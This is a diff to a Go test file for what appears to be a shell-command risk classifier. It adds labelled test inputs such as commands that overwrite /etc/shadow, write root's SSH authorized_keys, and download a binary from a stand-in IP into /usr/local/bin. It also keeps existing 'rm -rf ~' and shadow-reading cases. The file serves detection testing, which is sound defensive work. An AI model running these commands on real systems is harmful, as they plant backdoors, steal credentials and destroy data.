@@ -339,6 +339,10 @@ func TestEffectPacksExamples(t *testing.T) {
 		`systemd-run --user --on-calendar '*:0/1' /bin/sh -c 'date >> /tmp/log'`:      "persistence.scheduled",
 		`systemd-run --on-active=30 /tmp/x`:                                           "persistence.scheduled",
 		`echo 'echo hi' >> ~/.shrc`:                                                   "persistence.startup_files",
+		`gcc -x c /dev/null -o /etc/shadow`:                                           "system_integrity.system_files",
+		`julia -e 'open(f->write(f, "k"), "/root/.ssh/authorized_keys", "w")'`:        "persistence.backdoor",
+		`jrunscript -e 'cp("http://198.51.100.23/a","/usr/local/bin/a")'`:             "untrusted_code.download_to_path",
+		`octave-cli --eval 'fid = fopen("/root/.ssh/authorized_keys", "w")'`:          "persistence.backdoor",
 		"printf '!rm -rf ~\\n' | ed":                                                  "destructive_shell.rm_root_or_home",
 		"echo -e 'e /etc/shadow\\n,p\\n' | ed > /tmp/s.txt":                           "credentials.read",
 		`echo ':!rm -rf ~' | vim`:                                                     "destructive_shell.rm_root_or_home",
@@ -436,6 +440,7 @@ for i in range(4):
 		`modinfo nvme`, `lsmod`, `kexec --help`, `systemctl stop nginx`, `sudo chkconfig nginx off`, `sysrc nginx_enable=NO`, `ufw logging on`,
 		`mdatp health`, `systemd-run --user --scope make test`, `systemd-run -p MemoryMax=1G --wait ./bench.sh`,
 		`grep -rn password src/`, `grep -rl password ~`, `rg -c token /`, `grep -r TODO ~`, `pw groupshow wheel`, `find . -name .env -type f`,
+		`gcc -O2 -o build/app main.c`, `octave --eval 'disp(1+1)'`, `julia -e 'println(sum(1:10))'`, `Rscript -e 'print(1)'`,
 		`docker run -v /home/ann/src/app:/src -w /src node:22 npm test`, `docker run -v ~/.cache/pip:/root/.cache/pip python:3.13 pip install x`, `docker run --mount type=bind,source=/home/ann/src,target=/s alpine ls`,
 	}
 	var cases []packCase
